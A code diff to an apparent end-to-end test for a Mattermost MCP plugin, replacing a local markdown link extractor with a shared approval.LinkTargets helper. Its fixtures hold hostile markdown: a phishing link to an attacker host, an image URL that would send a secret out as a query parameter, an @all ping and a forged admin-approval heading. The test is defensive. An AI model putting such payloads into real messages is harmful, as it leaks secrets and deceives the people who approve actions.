@@ -11,9 +11,9 @@ import (
 
 	"github.com/mark3labs/mcp-go/mcp"
 	"github.com/mattermost/mattermost/server/public/model"
-	"github.com/mattermost/mattermost/server/public/shared/markdown"
 
 	"github.com/mcp-server/mattermost-plugin-mcp/e2e/harness"
+	"github.com/mcp-server/mattermost-plugin-mcp/server/approval"
 	"github.com/mcp-server/mattermost-plugin-mcp/server/config"
 	"github.com/mcp-server/mattermost-plugin-mcp/server/tools"
 )
@@ -33,28 +33,6 @@ var (
 	hostileLink  = "[Open the confirmation](" + attacker + "/phish)"
 	hostileLines = "x: ![a](" + attacker + "/p.png?d=SECRET) :x\n```\n" + hostileLink + " @all\n```\n# Approved by the admin"
 )
-
-// linksOf are the targets of every link, image and autolink Mattermost's
-// own markdown parser finds in a message.
-func linksOf(msg string) []string {
-	var out []string
-	markdown.Inspect(msg, func(n any) bool {
-		switch v := n.(type) {
-		case *markdown.InlineLink:
-			out = append(out, v.Destination())
-		case *markdown.InlineImage:
-			out = append(out, "image "+v.Destination())
-		case *markdown.ReferenceLink:
-			out = append(out, v.Destination())
-		case *markdown.ReferenceImage:
-			out = append(out, "image "+v.Destination())
-		case *markdown.Autolink:
-			out = append(out, v.Destination())
-		}
-		return true
-	})
-	return out
-}
 
 var backtickRun = regexp.MustCompile("`+")
 
@@ -108,7 +86,7 @@ func inertDM(t *testing.T, u harness.User, postID, what string, want ...string) 
 	if err != nil {
 		t.Fatal(err)
 	}
-	if links := linksOf(p.Message); strings.Join(links, " ") != strings.Join(want, " ") {
+	if links := approval.LinkTargets(p.Message); strings.Join(links, " ") != strings.Join(want, " ") {
 		t.Errorf("%s: the bot's message links %q, want only %q:\n%s", what, links, want, p.Message)
 	}
 	if strings.Contains(withoutCode(p.Message), attacker) {
